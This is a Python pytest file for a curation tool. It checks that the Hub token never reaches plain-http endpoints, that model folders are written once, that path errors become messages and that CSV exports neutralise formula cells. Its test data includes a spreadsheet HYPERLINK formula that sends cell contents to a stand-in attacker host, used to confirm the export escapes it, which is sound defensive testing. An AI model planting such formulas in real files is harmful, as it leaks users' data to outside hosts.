"""Reliability and security, round two: where the Hub token may go, model folders written
once, path errors as messages (no tracebacks, no `.tmp` leftovers, stale build folders
cleaned, release folders readable by others), CSV formula cells neutralised, and training
refusals that name the file.

Publishing is tested with the real `huggingface_hub` client against a local server that
records every request's headers, and the Hub TEST DOUBLE of tests/integration/hub_double.py."""

from __future__ import annotations

import csv
import io
import ipaddress
import json
import os
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from relkit import seed_questions
from typer.testing import CliRunner

from curation import hub, labels, release
from curation.cli import app
from curation.errors import ConfigError
from curation.store import Store, utcnow
from curation.store.annotations import Annotation, append

_INTEGRATION = str(Path(__file__).resolve().parents[1] / "integration")
if _INTEGRATION not in sys.path:
    sys.path.insert(0, _INTEGRATION)

from hub_double import HubDouble  # noqa: E402
from release_fixture import build_store  # noqa: E402

pytestmark = pytest.mark.reliability

TOKEN = "hf_ROUNDtwoPLANTEDtoken0123456789abcdef"
DATA = Path(__file__).resolve().parents[2] / "curation" / "data" / "medxpertqa_labeled_dev.jsonl"


# ----------------------------------------------------------------------------------------
# A server that records the headers of every request it gets (and answers 404)
# ----------------------------------------------------------------------------------------
class _Recorder(ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self, host: str) -> None:
        self.seen: list[dict[str, str]] = []
        super().__init__((host, 0), _RecordingHandler)
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def url(self, host: str | None = None) -> str:
        return f"http://{host or self.server_address[0]}:{self.server_address[1]}"

    def tokens_seen(self) -> list[str]:
        return [h["authorization"] for h in self.seen if "authorization" in h]

    def stop(self) -> None:
        self.shutdown()
        self.server_close()


class _RecordingHandler(BaseHTTPRequestHandler):
    server: _Recorder  # type: ignore[assignment]

    def log_message(self, format: str, *args: Any) -> None:
        pass

    def _any(self) -> None:
        self.server.seen.append({k.lower(): v for k, v in self.headers.items()})
        n = int(self.headers.get("Content-Length") or 0)
        if n:
            self.rfile.read(n)
        self.send_response(404)
        self.send_header("Content-Length", "0")
        self.send_header("Connection", "close")
        self.end_headers()

    do_GET = do_POST = do_PUT = do_HEAD = _any  # noqa: N815


def _non_loopback_ip() -> str | None:
    """An address of this machine that is not loopback (no packet is sent), if it has one."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.connect(("192.0.2.1", 9))
        ip = str(s.getsockname()[0])
    except OSError:
        return None
    finally:
        s.close()
    return None if ipaddress.ip_address(ip).is_loopback or ip == "0.0.0.0" else ip


@pytest.fixture
def online(monkeypatch: pytest.MonkeyPatch) -> None:
    """The suite runs with HF_HUB_OFFLINE=1; these tests talk to local servers only."""
    import huggingface_hub.constants as c

    monkeypatch.setattr(c, "HF_HUB_OFFLINE", False)
    monkeypatch.setattr(c, "HF_HUB_DISABLE_XET", True)
    monkeypatch.delenv("HF_TOKEN", raising=False)
    monkeypatch.delenv("HF_ENDPOINT", raising=False)


@pytest.fixture
def recorder() -> Iterator[_Recorder]:
    r = _Recorder("127.0.0.1")
    yield r
    r.stop()


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> tuple[Store, Path]:
    tmp = tmp_path_factory.mktemp("round_two_release")
    store = build_store(tmp)
    release.build_release(store, version="v1", out=tmp / "exports")
    return store, tmp / "exports" / "v1"


# ----------------------------------------------------------------------------------------
# 3. The Hub token goes only to an https endpoint (loopback http by an explicit flag)
# ----------------------------------------------------------------------------------------
def test_no_token_to_a_plain_http_endpoint(online: None, recorder: _Recorder, built: tuple[Store, Path],
                                           monkeypatch: pytest.MonkeyPatch) -> None:
    store, folder = built
    with pytest.raises(ConfigError, match="https://"):
        hub.publish(folder, "lab/x", token=TOKEN, endpoint=recorder.url(), tag="v1")
    with pytest.raises(ConfigError, match="https://"):
        release.publish_release(store, folder, repo_id="lab/x", token=TOKEN, endpoint=recorder.url())
    monkeypatch.setenv("HF_ENDPOINT", recorder.url())  # the environment's endpoint is checked the same way
    with pytest.raises(ConfigError, match="HF_ENDPOINT"):
        hub.publish(folder, "lab/x", token=TOKEN, tag="v1")
    assert recorder.seen == [] and recorder.tokens_seen() == []


@pytest.mark.parametrize(("url", "flag", "ok"), [
    ("https://huggingface.co", False, True),
    ("https://hub.example.org:8443/", False, True),
    ("http://127.0.0.1:9", True, True),
    ("http://127.0.0.2:9", True, True),
    ("http://[::1]:9", True, True),
    ("http://localhost:9", True, True),
    ("http://127.0.0.1:9", False, False),
    ("http://localhost.example.org:9", True, False),  # names are not resolved: only 'localhost'
    ("http://10.0.0.1", True, False),
    ("http://huggingface.co", True, False),
    ("https://user:pass@huggingface.co", False, False),
    ("ftp://huggingface.co", False, False),
    ("huggingface.co", False, False),
    ("https://", False, False),
])
def test_endpoint_rules(url: str, flag: bool, ok: bool) -> None:
    if ok:
        assert hub.resolve_endpoint(url, allow_insecure_loopback=flag) == url.rstrip("/")
    else:
        with pytest.raises(ConfigError):
            hub.resolve_endpoint(url, allow_insecure_loopback=flag)


def test_no_token_to_a_non_loopback_http_host_even_with_the_flag(
        online: None, built: tuple[Store, Path]) -> None:
    _, folder = built
    with pytest.raises(ConfigError, match="loopback"):
        hub.publish(folder, "lab/x", token=TOKEN, endpoint="http://hub.example.test:8080", tag="v1",
                    allow_insecure_loopback=True)
    ip = _non_loopback_ip()
    if ip is None:
        return  # no other interface here: the refusal above happens before any connection anyway
    outside = _Recorder("0.0.0.0")
    try:
        with pytest.raises(ConfigError, match="loopback"):
            hub.publish(folder, "lab/x", token=TOKEN, endpoint=outside.url(ip), tag="v1",
                        allow_insecure_loopback=True)
        assert outside.seen == []
    finally:
        outside.stop()


def test_loopback_http_only_with_the_explicit_flag(online: None, built: tuple[Store, Path]) -> None:
    store, folder = built
    double = HubDouble(TOKEN).start()
    try:
        result = release.publish_release(store, folder, repo_id="lab/flag", token=TOKEN, endpoint=double.endpoint,
                                         allow_insecure_loopback=True)
        assert double.repo("lab/flag").tags == {"v1": result["commit_sha"]}
    finally:
        double.stop()


def test_cli_publish_refuses_http_without_the_flag(online: None, recorder: _Recorder, built: tuple[Store, Path],
                                                   tmp_path: Path) -> None:
    store, folder = built
    env = {"HF_TOKEN": TOKEN, "HF_HOME": str(tmp_path / "hf")}
    runner = CliRunner()
    base = ["release", "publish", str(folder), "--repo", "lab/cli", "--db", str(store.path)]
    res = runner.invoke(app, [*base, "--endpoint", recorder.url()], env=env)
    assert res.exit_code != 0 and isinstance(res.exception, SystemExit), res.output
    assert "https://" in res.output and "--allow-http-loopback" in res.output and TOKEN not in res.output
    res = runner.invoke(app, [*base], env={**env, "HF_ENDPOINT": recorder.url()})
    assert res.exit_code != 0 and "HF_ENDPOINT" in res.output
    res = runner.invoke(app, [*base, "--endpoint", "http://hub.example.test", "--allow-http-loopback"], env=env)
    assert res.exit_code != 0 and "loopback" in res.output
    assert recorder.seen == []
    double = HubDouble(TOKEN).start()
    try:
        res = runner.invoke(app, [*base, "--endpoint", double.endpoint, "--allow-http-loopback"], env=env)
        assert res.exit_code == 0, res.output
        assert set(double.repo("lab/cli").tags) == {"v1"}
    finally:
        double.stop()


# ----------------------------------------------------------------------------------------
# 5. A model folder is written once, and appears whole
# ----------------------------------------------------------------------------------------
def _labeled_file(path: Path, n: int, start: int = 0, **override: Any) -> Path:
    rows = [json.loads(x) for x in DATA.read_text(encoding="utf-8").splitlines() if x.strip()][start:start + n]
    path.write_text("".join(json.dumps({**r, **override}) + "\n" for r in rows), encoding="utf-8")
    return path


def _train(*args: str) -> Any:
    return CliRunner().invoke(app, ["train", "--model", "tfidf", *args])


def _leftovers(root: Path) -> list[Path]:
    return sorted(p for p in root.rglob("*") if p.name.endswith((".tmp", ".part")) or ".writing-" in p.name
                  or ".building-" in p.name)


def test_train_refuses_an_existing_out_folder(tmp_path: Path) -> None:
    data = _labeled_file(tmp_path / "l.jsonl", 60)
    out = tmp_path / "m"
    assert _train("--labels", str(data), "--out", str(out)).exit_code == 0
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    res = _train("--labels", str(data), "--out", str(out))
    assert res.exit_code != 0 and isinstance(res.exception, SystemExit), res.output
    assert "already exists" in res.output and str(out) in res.output
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before  # the first model is untouched
    assert _leftovers(tmp_path) == []


def test_train_from_the_store_never_registers_two_models_on_one_folder(cli_env: Path, tmp_path: Path) -> None:
    store = Store(cli_env)
    ids = seed_questions(store, 16, split="train")
    store.run(lambda con: append(con, [
        Annotation(q, "ann", "label", "reasoning" if i % 2 else "knowledge", "app", utcnow())
        for i, q in enumerate(ids)]))
    out = tmp_path / "m"
    assert _train("--labels", "store", "--out", str(out)).exit_code == 0
    res = _train("--labels", "store", "--out", str(out))
    assert res.exit_code != 0 and "already exists" in res.output
    rows = store.run(lambda con: con.execute("SELECT version, path FROM models").fetchall())
    assert len(rows) == 1 and json.loads((out / "curation_model.json").read_text())["version"] == rows[0][0]


def test_a_failed_save_leaves_no_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import curation.services.learn as learn

    def boom(folder: Any, seen: Any) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(learn, "write_seen_ids", boom)
    data = _labeled_file(tmp_path / "l.jsonl", 60)
    with pytest.raises(OSError):
        learn.train_model(str(data), "tfidf", tmp_path / "m")
    assert not (tmp_path / "m").exists()  # no weights without their curation_model.json and ids
    assert sorted(p.name for p in tmp_path.iterdir()) == ["l.jsonl"]


# ----------------------------------------------------------------------------------------
# 6. Path errors are messages; no .tmp files; stale build folders cleaned; readable releases
# ----------------------------------------------------------------------------------------
def _assert_message(res: Any, *needles: str) -> None:
    assert res.exit_code != 0, res.output
    assert isinstance(res.exception, SystemExit), repr(res.exception)  # a message, not a traceback
    assert "Traceback" not in res.output
    for n in needles:
        assert n in res.output, res.output


def test_path_errors_are_messages(cli_env: Path, tmp_path: Path) -> None:
    store = Store(cli_env)
    seed_questions(store, 4)
    runner = CliRunner()
    a_file = tmp_path / "a_file"
    a_file.write_text("x")
    _assert_message(runner.invoke(app, ["release", "build", "--version", "v1", "--out", str(a_file)]), str(a_file))
    data = _labeled_file(tmp_path / "l.jsonl", 60)
    _assert_message(_train("--labels", str(data), "--out", str(a_file)), str(a_file))
    assert a_file.read_text() == "x"
    missing = tmp_path / "missing" / "x.csv"
    _assert_message(runner.invoke(app, ["labels", "export", "--format", "csv", "--out", str(missing)]),
                    str(missing.parent))
    model = tmp_path / "m"
    assert _train("--labels", str(data), "--out", str(model)).exit_code == 0
    unl = _labeled_file(tmp_path / "u.jsonl", 5, 100)
    a_dir = tmp_path / "a_dir"
    a_dir.mkdir()
    _assert_message(runner.invoke(app, ["classify", "--model", str(model), "--input", str(unl), "--output", str(a_dir)]),
                    str(a_dir))
    assert list(a_dir.iterdir()) == []
    _assert_message(runner.invoke(app, ["classify", "--model", str(model), "--input", str(unl),
                                        "--output", str(a_file / "x.jsonl")]), str(a_file))
    assert _leftovers(tmp_path) == []


def _dead_pid() -> int:
    p = subprocess.Popen([sys.executable, "-c", "pass"])
    p.wait()
    return p.pid


def test_release_build_cleans_stale_building_folders_and_is_readable(tmp_path: Path) -> None:
    store = build_store(tmp_path)
    out = tmp_path / "exports"
    out.mkdir()
    stale = out / f".v0.building-{_dead_pid()}-0a1b2c"
    (stale / "data").mkdir(parents=True)
    (stale / "data" / "half.parquet").write_bytes(b"half")
    live = out / f".v9.building-{os.getpid()}-3d4e5f"  # a build in progress (this process) stays
    live.mkdir()
    old = os.umask(0o022)
    try:
        release.build_release(store, version="v1", out=out)
    finally:
        os.umask(old)
    assert not stale.exists() and live.is_dir()
    folder = out / "v1"
    assert folder.stat().st_mode & 0o777 == 0o755
    for p in folder.rglob("*"):
        assert p.stat().st_mode & 0o777 == (0o755 if p.is_dir() else 0o644), p
    assert sorted(p.name for p in out.iterdir()) == [live.name, "v1"]


def test_model_folder_is_readable_by_others(tmp_path: Path) -> None:
    data = _labeled_file(tmp_path / "l.jsonl", 60)
    old = os.umask(0o022)
    try:
        assert _train("--labels", str(data), "--out", str(tmp_path / "m")).exit_code == 0
    finally:
        os.umask(old)
    assert (tmp_path / "m").stat().st_mode & 0o777 == 0o755
    assert all(p.stat().st_mode & 0o777 == 0o644 for p in (tmp_path / "m").iterdir())


# ----------------------------------------------------------------------------------------
# 7. CSV exports neutralise formula cells, and read back exactly
# ----------------------------------------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "\tTAB=1", "\rCR=1", "'=already quoted", "'plain quote", "=", "safe text"]


def test_csv_export_has_no_live_formula(cli_env: Path, tmp_path: Path) -> None:
    store = Store(cli_env)
    ids = seed_questions(store, len(FORMULAS))
    store.run(lambda con: append(con, [
        Annotation(q, "ann", "label", "reasoning", "app", utcnow(), rationale=text)
        for q, text in zip(ids, FORMULAS, strict=True)]))
    out = tmp_path / "labels.csv"
    res = CliRunner().invoke(app, ["labels", "export", "--format", "csv", "--out", str(out)])
    assert res.exit_code == 0, res.output
    text = out.read_bytes().decode("utf-8")  # no newline translation: a cell may hold a CR
    for rec in csv.DictReader(io.StringIO(text, newline="")):
        for value in rec.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    back = labels.parse_export_csv(text)
    assert sorted(r["rationale"] for r in back) == sorted(FORMULAS)
    assert _leftovers(tmp_path) == []


# ----------------------------------------------------------------------------------------
# 10. Training refusals name the file
# ----------------------------------------------------------------------------------------
def test_training_refusals_name_the_file(tmp_path: Path) -> None:
    three = _labeled_file(tmp_path / "three.jsonl", 3)
    _assert_message(_train("--labels", str(three), "--out", str(tmp_path / "m1")), str(three), "at least 4")
    one_class = _labeled_file(tmp_path / "one_class.jsonl", 12, label="reasoning")
    _assert_message(_train("--labels", str(one_class), "--out", str(tmp_path / "m2")), str(one_class), "both labels")
    assert not (tmp_path / "m1").exists() and not (tmp_path / "m2").exists()
